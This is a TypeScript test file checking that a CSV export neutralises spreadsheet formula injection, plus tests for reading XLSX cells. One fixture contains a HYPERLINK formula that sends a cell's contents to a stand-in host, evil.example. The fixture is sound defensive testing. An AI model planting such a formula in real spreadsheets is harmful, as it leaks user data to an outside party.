import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { toCsv } from '../../admin/src/data/spreadsheet.ts';

/** The cells of a CSV export as a spreadsheet would read them (BOM dropped). */
async function cellsOf(blob: Blob): Promise<string[][]> {
  const text = (await blob.text()).replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { delimiter: ';' }).data;
}

const answerColumns = [
  { header: 'Betrieb', value: (r: { company: string }) => r.company },
  { header: 'Anmerkungen', value: (r: { notes: string }) => r.notes },
];

describe('CSV exports', () => {
  it('a survey answer that hides a formula after a line break reaches Excel as text', async () => {
    const rows = [{ company: 'Hanse Logistik', notes: '\n=HYPERLINK("https://evil.example/?x="&A1;"Details")' }];
    const [, row] = await cellsOf(toCsv(rows, answerColumns));
    expect(row![1]!.startsWith("'")).toBe(true);
    expect(row![0]).toBe('Hanse Logistik');
  });

  it('every value that starts with = + - @, tab or CR, or has one after a line break, is neutralised', async () => {
    const dangerous = fc
      .tuple(
        fc.string({ maxLength: 20 }),
        fc.constantFrom('=', '+', '-', '@', '\t', '\r'),
        fc.constantFrom('', '\n', '\r\n', 'a\n'),
        fc.string({ maxLength: 20 }),
      )
      .map(([before, sign, breakBefore, after]) => (breakBefore ? `${before.replace(/[\r\n]/g, '')}${breakBefore}${sign}${after}` : `${sign}${after}`));
    await fc.assert(
      fc.asyncProperty(dangerous, async (notes) => {
        const [, row] = await cellsOf(toCsv([{ company: 'x', notes }], answerColumns));
        expect(row![1]!.startsWith("'")).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it('ordinary text is left as it is', async () => {
    const [, row] = await cellsOf(toCsv([{ company: 'Müller & Söhne', notes: 'Zwei Stellen\nab Frühjahr' }], answerColumns));
    expect(row).toEqual(['Müller & Söhne', 'Zwei Stellen\nab Frühjahr']);
  });
});

describe('reading an imported XLSX cell', () => {
  it('gives what a person sees: hyperlink text, rich text, formula results, dates as YYYY-MM-DD', async () => {
    const { cellText } = await import('../../admin/src/data/spreadsheet.ts');
    expect(cellText({ text: 'info@firma.example', hyperlink: 'mailto:info@firma.example' })).toBe('info@firma.example');
    expect(cellText({ richText: [{ text: 'Müller ' }, { text: 'GmbH' }] })).toBe('Müller GmbH');
    expect(cellText({ formula: 'A1*2', result: 24 })).toBe('24');
    expect(cellText(new Date(Date.UTC(2026, 0, 15)))).toBe('2026-01-15');
    expect(cellText(18055)).toBe('18055');
    expect(cellText(null)).toBe('');
  });
});
